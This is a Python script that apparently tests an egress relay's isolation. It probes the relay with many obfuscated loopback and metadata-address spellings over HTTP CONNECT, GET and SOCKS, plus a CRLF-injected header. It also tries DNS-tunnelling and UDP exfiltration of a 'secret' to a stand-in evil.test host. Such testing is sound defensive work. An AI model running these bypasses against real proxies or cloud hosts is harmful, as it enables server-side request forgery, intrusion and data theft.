# Tries to get through the relay to a server on the host's loopback, and prints HELLO for each way that does.
import os, socket, struct, sys

port, datagrams, own = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3].split(",")
proxy = ("127.0.0.1", int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1]))
GET = b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"


def talk(*parts):
    """Sends each part after the answer to the one before, and returns all answers."""
    got = b""
    try:
        with socket.create_connection(proxy, 3) as c:
            for part in parts:
                c.sendall(part)
                answer = c.recv(65536)
                got += answer
                if not answer:
                    return got
            while answer := c.recv(65536):
                got += answer
    except OSError:
        pass
    return got


def tell(way, host, got):
    if b"HELLO" in got:
        print("HELLO", way, host)
    status = got[9:12].decode(errors="replace") if got.startswith(b"HTTP/") else got[3:4].hex().lstrip("0") if way == "socks5" else got[:2].hex()
    print("tried", way, host.encode("unicode_escape").decode(), status)


def connect(host, header="allowed.test"):
    tell("connect", host, talk(("CONNECT %s:%d HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, port, header)).encode(), GET))


def get(host, scheme="http"):
    tell("get", host, talk(("GET %s://%s:%d/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n" % (scheme, host, port)).encode()))


def socks5(host, address):
    tell("socks5", host, talk(b"\5\1\0", b"\5\1\0" + address + struct.pack(">H", port), GET))


def socks4(host, address, name=b""):
    tell("socks4", host, talk(b"\4\1" + struct.pack(">H", port) + address + b"\0" + name, GET))


named = lambda host: b"\3" + bytes([len(host.encode())]) + host.encode()
spellings = [
    "127.0.0.1", "localhost", "LOCALHOST", "localhost.", "localhost.localdomain", "127.1", "127.0.1", "0x7f.1", "0x7f000001", "2130706433",
    "017700000001", "0177.0.0.1", "127.0.0.1.", "0", "0.0.0.0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]",
    "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[::1%lo]", "\uff11\uff12\uff17.0.0.1", "127\u30020.0.1", "allowed.test@127.0.0.1", "127.0.0.1#.wild.test",
    "127.0.0.1?.wild.test", "127.0.0.1/.wild.test", "127.0.0.1%00.wild.test", "127.0.0.1\0.wild.test", "127.0.0.1\\.wild.test",
    "127.0.0.1 .wild.test", "127.0.0.1\t", "%6c%6f%63%61%6c%68%6f%73%74", "ip6-localhost", socket.gethostname(), "169.254.169.254", "10.0.0.1",
] + own
for host in spellings:
    connect(host)
    get(host)
    if len(host.encode()) < 256:
        socks5(host, named(host))
        socks4(host, b"\0\0\0\1", host.encode() + b"\0")
for a in own + ["0.0.0.0", "127.0.0.2"]:
    socks5(a, b"\1" + socket.inet_aton(a))
    socks4(a, socket.inet_aton(a))
for a in "::1", "::", "::ffff:127.0.0.1", "64:ff9b::7f00:1":
    socks5(a, b"\4" + socket.inet_pton(socket.AF_INET6, a))
get("127.0.0.1", "https")
get("127.0.0.1", "file")
connect("127.0.0.1", "127.0.0.1:%d" % port)
connect("allowed.test:443\r\nX: 127.0.0.1")
for host in "127.0.0.1", own[-1]:  # without the proxy
    try:
        if b"HELLO" in socket.create_connection((host, port), 1).recv(99):
            print("BROKE directly")
    except OSError as e:
        print("tried directly", host, e.errno)


def query(name, kind, over):
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
    try:
        with socket.socket(socket.AF_INET, over) as s:
            s.settimeout(2)
            s.connect(("127.0.0.53", 53))
            s.sendall(q if over == socket.SOCK_DGRAM else struct.pack(">H", len(q)) + q)
            a = s.recv(4096)[0 if over == socket.SOCK_DGRAM else 2:]
            return len(a) > 12 and a[3] & 15 == 0 and struct.unpack(">H", a[6:8])[0] > 0
    except OSError:
        return False


for over in socket.SOCK_DGRAM, socket.SOCK_STREAM:
    for kind in 1, 28, 16, 15, 10, 12, 33, 65, 255:  # A, AAAA, TXT, MX, NULL, PTR, SRV, HTTPS, ANY
        for name in "c2VjcmV0.evil.test", "c2VjcmV0.allowed.test", "allowed.test.c2VjcmV0.evil", "allowed.test":
            if query(name, kind, over):
                print("NAME", name)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.3)
    s.connect(("127.0.0.1", datagrams))
    s.send(b"secret")
    s.recv(9)
    print("BROKE by a datagram")
except OSError:
    pass
